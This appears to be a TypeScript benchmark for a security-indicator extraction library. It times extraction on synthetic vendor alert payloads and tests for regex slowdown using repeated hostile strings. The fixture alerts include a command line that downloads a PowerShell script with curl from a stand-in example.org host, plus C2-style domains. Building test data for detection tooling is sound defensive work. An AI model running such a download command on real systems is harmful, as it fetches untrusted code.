import { compileMappings, extractIndicators } from '@calseta/indicators';
import { formatNumber } from '../report/section.js';
import { median } from '../tools/statistics.js';
import { type Scenario } from './scenario.js';

const MIB = 2 ** 20;
/** Below the length at which text is cut off, which would make the growth look better. */
const GROWTH_LENGTH = 2 ** 14;
const PAYLOAD_CHARACTERS = 4_000;
const MAX_GROWTH = 3;

/** Text that makes a backtracking regular expression slow. */
const HOSTILE = {
  'a.a.a.a…': 'a.',
  'http://http://…': 'http://',
  '@@@@…': '@',
  '1.1.1.1.1…': '1.',
  'a@a@a@…': 'a@',
  '[.][.][.]…': '[.]',
  'ffff…': 'f',
  '-.-.-.…': '-.',
} as const;

/** Extraction alone: throughput on payloads of vendors, and time on hostile text. */
export const extract: Scenario = {
  name: 'extract',
  summary: 'extractIndicators: MB/s on payloads, and growth on hostile text',
  profiled: [],
  run({ runs, seconds }) {
    const megabytesPerSecond = Array.from({ length: runs + 1 }, (_, run) =>
      throughput(run, (seconds * 1_000) / (runs + 1)),
    ).slice(1);
    const hostile = Object.entries(HOSTILE).map(([name, unit]) => {
      const once = timeOf(unit, MIB);
      return {
        name,
        ms: once,
        growth: timeOf(unit, 2 * GROWTH_LENGTH) / timeOf(unit, GROWTH_LENGTH),
      };
    });
    const worstGrowth = Math.max(...hostile.map(({ growth }) => growth));
    return Promise.resolve({
      title: 'extract',
      method:
        `extractIndicators in one process: payloads of about ${PAYLOAD_CHARACTERS} characters of nested vendor-like fields, ` +
        'none twice, for the rate; one description of hostile text of 1 MiB (longer than what is read) for the time, and of 16 and 32 KiB for the growth; best of ten.',
      tables: [
        {
          head: ['MB/s, median', 'least', 'most'],
          rows: [
            [
              median(megabytesPerSecond),
              Math.min(...megabytesPerSecond),
              Math.max(...megabytesPerSecond),
            ],
          ],
        },
        {
          head: ['hostile text', '1 MiB, ms', 't(2n) / t(n)'],
          rows: hostile.map(({ name, ms, growth }) => [`\`${name}\``, ms, growth]),
        },
      ],
      goals: [
        {
          name: 'growth with the length',
          wanted: `< ${MAX_GROWTH}`,
          measured: formatNumber(worstGrowth),
          isMet: worstGrowth < MAX_GROWTH,
        },
      ],
      notes: [],
    });
  },
};

function throughput(run: number, ms: number): number {
  const startedAt = performance.now();
  let characters = 0;
  for (let index = 0; performance.now() - startedAt < ms; index += 1) {
    const text = vendorPayload(run, index);
    characters += text.length;
    extractFrom({ rawPayload: JSON.parse(text) as unknown });
  }
  return characters / 1_000 / (performance.now() - startedAt);
}

function vendorPayload(run: number, index: number): string {
  const event = (number: number) => ({
    '@timestamp': '2025-01-15T10:28:00.000Z',
    event: { kind: 'alert', category: ['process', 'network'], action: 'exec', sequence: number },
    host: { name: `WS-${index}-${number}`, os: { name: 'Windows', version: '10.0.19045' } },
    user: { name: `user${number}`, email: `user${number}@corp${run}.example.com`, domain: 'CORP' },
    source: { ip: `10.${index % 250}.${number}.7`, port: 50_123 },
    destination: {
      ip: `185.${run}.${index % 250}.${number}`,
      domain: `c2-${index}-${number}.example.net`,
    },
    process: {
      executable: 'C:\\Windows\\System32\\cmd.exe',
      command_line: `cmd.exe /c curl -o x.ps1 https://files-${index}.example.org/a/${number}.ps1`,
      hash: { sha256: (index * 31 + number + 1).toString(16).padStart(8, '0').repeat(8) },
    },
    message:
      'An office program started a shell that opened a connection to a host never seen before',
  });
  const events = [];
  for (let length = 0; length < PAYLOAD_CHARACTERS;) {
    const made = event(events.length);
    events.push(made);
    length += JSON.stringify(made).length;
  }
  return JSON.stringify({ id: `${run}-${index}`, events });
}

function timeOf(unit: string, length: number): number {
  const description = unit.repeat(Math.ceil(length / unit.length)).slice(0, length);
  const times = Array.from({ length: 10 }, () => {
    const startedAt = performance.now();
    extractFrom({ rawPayload: {}, description });
    return performance.now() - startedAt;
  });
  return Math.min(...times);
}

const extractFrom = (given: { rawPayload: unknown; description?: string }) =>
  extractIndicators({
    sourceName: 'generic',
    title: 'Suspicious process execution',
    statedIndicators: [],
    normalizedFields: {},
    mappings: compileMappings([]),
    ...given,
  });
